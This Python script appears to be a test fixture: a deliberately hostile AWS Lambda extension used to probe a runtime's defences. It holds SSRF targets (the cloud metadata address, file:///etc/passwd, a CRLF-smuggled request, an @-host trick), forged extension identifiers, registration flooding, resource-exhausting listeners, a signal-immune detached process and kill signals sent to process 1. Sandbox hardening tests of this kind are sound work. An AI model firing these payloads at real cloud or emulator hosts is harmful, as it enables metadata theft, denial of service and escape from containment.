#!/usr/bin/python3 -u
"""A hostile extension; $DO says what it tries. It tells the function what it reached in /tmp/reached."""

import http.client
import json
import os
import socket
import subprocess
import sys
import threading
import time

ADDRESS = os.environ["AWS_LAMBDA_RUNTIME_API"]
NAME = os.path.basename(sys.argv[0])
OUTSIDE = (
    "http://169.254.169.254:80/latest/meta-data",
    "http://127.0.0.1:4566/",
    "http://localhost:8080/",
    "https://sandbox.localdomain:8080/",
    "http://sandbox.localdomain:9001/2018-06-01/runtime/invocation/next",
    "http://sandbox.localdomain:80/",
    "http://sandbox.localdomain:443/",
    "http://sandbox.localdomain:53/",
    "http://sandbox.localdomain:8080@127.0.0.1:4566/",
    "http://sandbox.localdomain.example.com:8080/",
    "http://sandbox.localdomain:8080/x HTTP/1.1\r\nHost: other\r\n\r\nGET /",
    "file:///etc/passwd",
)


def api(method, path, headers=None, body=None):
    connection = http.client.HTTPConnection(ADDRESS, timeout=600)  # of its own accord it does not end
    connection.request(method, path, None if body is None else json.dumps(body), headers or {})
    answer = connection.getresponse()
    text = answer.read()
    return answer.status, answer.headers.get("Lambda-Extension-Identifier"), json.loads(text or b"null")


def register(name=NAME, events=("INVOKE", "SHUTDOWN")):
    return api(
        "POST", "/2020-01-01/extension/register", {"Lambda-Extension-Name": name}, {"events": list(events)}
    )


def next_event(me):
    return api("GET", "/2020-01-01/extension/event/next", {"Lambda-Extension-Identifier": me})


def subscribe(me, uri):
    return api(
        "PUT",
        "/2022-07-01/telemetry",
        {"Lambda-Extension-Identifier": me},
        {
            "schemaVersion": "2022-12-13",
            "types": ["platform", "function", "extension"],
            "buffering": {"timeoutMs": 25},
            "destination": {"protocol": "HTTP", "URI": uri},
        },
    )


def tell(reached):
    with open("/tmp/making", "w") as out:
        json.dump(reached, out)
    os.rename("/tmp/making", "/tmp/reached")


def pretend(me):
    """Speaks for others: with guessed and made-up identifiers, under others' names, for the runtime."""
    reached = []
    for guess in ("", "me", "../" + me, me[:-1], me[:-4] + "0000", me.replace("-", ""), me + me, "\0" * 36):
        for method, path in (("GET", "event/next"), ("POST", "exit/error"), ("POST", "init/error")):
            headers = {"Lambda-Extension-Function-Error-Type": "X.Y", "Lambda-Extension-Identifier": guess}
            try:
                if api(method, "/2020-01-01/extension/" + path, headers, {})[0] < 400:
                    reached.append(f"{path} as {guess!r}")
            except (OSError, ValueError, http.client.HTTPException):
                pass  # no header of HTTP: nobody answers
    for name in (NAME, "", "../" + NAME, "x" * 5_000):
        status, _, answer = register(name)
        if status < 400:
            reached.append(f"registered as {name[:40]!r}: {answer}")
    return reached


def crowd(me):
    """More registrations than there may be."""
    made = [me for status, me, _ in (register(f"inner-{number}", []) for number in range(60)) if status < 400]
    for each in made:  # or the init would wait for them
        threading.Thread(target=next_event, args=(each,), daemon=True).start()
    return [f"{len(made)} more extensions were registered"] if len(made) > 9 else []


def lead_out(me):
    return [uri for uri in OUTSIDE if subscribe(me, uri)[0] < 400]


def serve_badly(me):
    """Telemetry for listeners that never answer, never end their answer, or answer rubbish."""

    def endless(peer):
        peer.recv(100)
        peer.sendall(b"HTTP/1.1 200 OK\r\n")
        while True:
            peer.sendall(b"X-More: " + b"x" * 4000 + b"\r\n")

    def bottomless(peer):
        peer.recv(100)
        peer.sendall(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n")
        while True:
            peer.sendall(b"1000\r\n" + b"x" * 4096 + b"\r\n")

    def rubbish(peer):
        peer.sendall(os.urandom(4096))
        peer.close()

    def mute(peer):
        time.sleep(1000)

    def accept(listener, serve):
        while True:
            peer = listener.accept()[0]
            threading.Thread(target=lambda: swallow(serve, peer), daemon=True).start()

    def swallow(serve, peer):
        try:
            serve(peer)
        except OSError:
            pass

    for number, serve in enumerate((endless, bottomless, rubbish, mute)):
        listener = socket.create_server(("127.0.0.1", 8100 + number))
        threading.Thread(target=accept, args=(listener, serve), daemon=True).start()
        subscribe(me, f"http://sandbox.localdomain:{8100 + number}/")
    threading.Thread(target=chatter, daemon=True).start()
    return []


def chatter():
    while True:
        print("x" * 10_000)


def stay(me):
    """Neither a signal nor an event ends it, and what it started has a session of its own."""
    subprocess.Popen(["/bin/sh", "-c", "trap '' TERM HUP INT; sleep 97611"], start_new_session=True)
    return []


def shoot(me):
    """Ends and stops what is not its own: process 1, which holds everything together."""
    for number in (1, 2, 9, 15, 17, 19):
        os.kill(1, number)
    for _ in range(20_000):
        os.kill(1, 17)  # the one signal it listens to
    return []


def main():
    me = register()[1]
    tell(globals()[os.environ["DO"]](me))
    while True:
        next_event(me)


main()
